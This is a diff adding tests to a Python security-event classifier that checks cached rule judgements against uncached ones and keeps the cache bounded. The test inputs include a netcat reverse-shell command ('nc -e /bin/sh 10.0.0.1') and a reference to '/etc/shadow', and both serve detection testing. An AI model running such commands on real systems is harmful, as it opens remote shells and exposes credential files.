@@ -683,8 +683,43 @@ events = st.fixed_dictionaries({
 @given(rule_specs(), st.lists(events, min_size=1, max_size=5))
 def test_the_index_judges_every_event_as_every_rule_would(specs, stream):
     rules = compile_risk_rules(specs)
-    for event in stream:
+    for event in stream + stream:  # the second time, judged as before when it may be kept
         assert classify(dict(event), rules) == classify(dict(event), list(rules))
+
+
+def test_an_event_that_looks_the_same_to_the_rules_gets_the_same_judgement_and_no_other():
+    rules = compile_risk_rules(SHIPPED_RISK_RULES)
+    first = classify(iter_events(run("nc", "-e", "/bin/sh", "10.0.0.1")).__next__(), rules)
+    again = iter_events(run("nc", "-e", "/bin/sh", "10.0.0.1", serial=99)).__next__()
+    again.update(cwd="/elsewhere", tty="pts9", host="db01", pid=4242)  # read by no rule
+    assert rules.judgements and classify(again, rules)["rules"] == first["rules"] != []
+    again["reasons"].append("changed")  # each event has its own lists
+    assert "changed" not in classify(dict(again), rules)["reasons"]
+    for changed in ({"user": "www-data"}, {"login_user": None}, {"success": False},
+                    {"argv": ["nc", "-l"]}, {"exe": "/usr/bin/ls"}, {"kind": "file"},
+                    {"keys": ["exec", "x"]}, {"paths": [{"path": "/etc/shadow"}]},
+                    {"operation": "write"}):
+        event = dict(again, **changed)
+        assert classify(dict(event), rules) == classify(dict(event), list(rules)), changed
+
+
+def test_a_rule_that_asks_any_field_has_every_event_judged_in_full():
+    rules = compile_risk_rules([{"id": "from-tmp", "level": "high", "reason": "in /tmp",
+                                 "match": {"kind": ["exec"], "field": {"cwd": "^/tmp"}}}])
+    assert rules.judgements is None
+    event = {"kind": "exec", "argv": ["ls"], "keys": [], "paths": [], "cwd": "/tmp"}
+    assert classify(dict(event), rules)["level"] == "high"
+    assert classify(dict(event, cwd="/root"), rules)["level"] == "info"
+
+
+def test_what_one_sender_can_make_the_judgements_hold_is_bounded():
+    rules = compile_risk_rules(SHIPPED_RISK_RULES)
+    for number in range(10000):
+        classify({"kind": "exec", "argv": ["cmd%d" % number], "keys": ["exec"]}, rules)
+    huge = {"kind": "exec", "argv": ["nc", "-e", "x" * 100000], "keys": ["exec"]}
+    assert classify(dict(huge), rules)["level"] == classify(dict(huge), list(rules))["level"]
+    assert 0 < len(rules.judgements) <= 4096
+    assert all(sum(map(len, key[2])) < 5000 for key in rules.judgements)
 
 
 def test_a_rule_with_alternatives_is_judged_when_any_of_them_is_met():
